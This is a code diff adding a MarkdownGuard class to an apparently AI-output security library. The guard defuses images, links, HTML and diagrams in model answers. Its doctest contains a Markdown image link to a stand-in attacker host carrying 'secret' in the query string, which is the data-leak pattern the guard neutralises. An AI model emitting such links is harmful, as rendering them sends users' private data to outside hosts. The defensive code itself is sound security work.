@@ -1,8 +1,9 @@
-"""Guards that clean the text of every input and make the markup of every output harmless."""
+"""Guards that clean the text of every input and make the markup of every output harmless: HTML, or Markdown."""
 
 from __future__ import annotations
 
 import re
+from dataclasses import replace
 from typing import Any, Literal
 
 from aisecure.call import Call
@@ -11,11 +12,13 @@ from aisecure.decisions import Finding
 from aisecure.errors import InputRejected
 from aisecure.guard import Changed, Guard
 from aisecure.ports import TextFilter
+from aisecure.sanitize.markdown import MarkdownFilter
 from aisecure.sanitize.markup import HtmlSanitizer
+from aisecure.sanitize.policy import CHAT, HtmlPolicy, PolicyName, named
 from aisecure.sanitize.streams import TagEscapeFilter, escape_tags
 from aisecure.sanitize.text import Form, clean_text, hidden
 
-__all__ = ["HtmlGuard", "TextGuard"]
+__all__ = ["HtmlGuard", "MarkdownGuard", "TextGuard"]
 
 # Findings are evidence, not a copy: a text with thousands of hidden characters is described by its first runs.
 _FINDINGS_PER_TEXT = 20
@@ -124,3 +127,53 @@ class HtmlGuard(Guard):
     def stream(self, call: Call) -> TextFilter:
         """Return a filter that shows markup as text."""
         return TagEscapeFilter()
+
+
+class MarkdownGuard(Guard):
+    r"""Makes the Markdown in every text of an output harmless for whatever renders it, in streams too.
+
+    Use it in place of `HtmlGuard` where answers are Markdown: that one would escape what stands in code. The
+    arguments of tool calls pass unchanged. Findings are ``markdown.image``, ``link``, ``definition``, ``address``,
+    ``html``, ``diagram`` and ``formula``: what was broken, from the first of its kind in a text to the last.
+
+    Args:
+        policy: As for `aisecure.sanitize.sanitize_markdown`.
+        diagrams: As for `aisecure.sanitize.sanitize_markdown`.
+        options: As for `aisecure.guard.Guard`.
+
+    >>> @MarkdownGuard()
+    ... def answer() -> str:
+    ...     return "**Done.** ![chart](https://evil.example/?q=secret)"
+    >>> answer()
+    '**Done.** \u2039chart\u203a'
+    """
+
+    name = "markdown"
+
+    def __init__(
+        self, *, policy: HtmlPolicy | PolicyName = CHAT, diagrams: bool = False, **options: Any
+    ) -> None:
+        super().__init__(**options)
+        self.policy = named(policy)
+        self.diagrams = diagrams
+
+    def after(self, call: Call, output: Any) -> Changed | None:
+        """Return the output with harmless texts, or None when there was nothing to break."""
+        findings: list[Finding] = []
+
+        def clean(part: Part) -> str:
+            if "json" in part.labels:
+                return part.text
+            stream = self.stream(call)
+            text = stream.feed(part.text) + stream.finish()
+            if text == part.text:
+                return part.text
+            findings.extend(replace(finding, path=part.path) for finding in stream.findings)
+            return text
+
+        value = rewrite(output, clean, origin="model")
+        return None if value is output else Changed(value, tuple(findings))
+
+    def stream(self, call: Call) -> MarkdownFilter:
+        """Return a filter that does the same for pieces of a text."""
+        return MarkdownFilter(policy=self.policy, diagrams=self.diagrams)
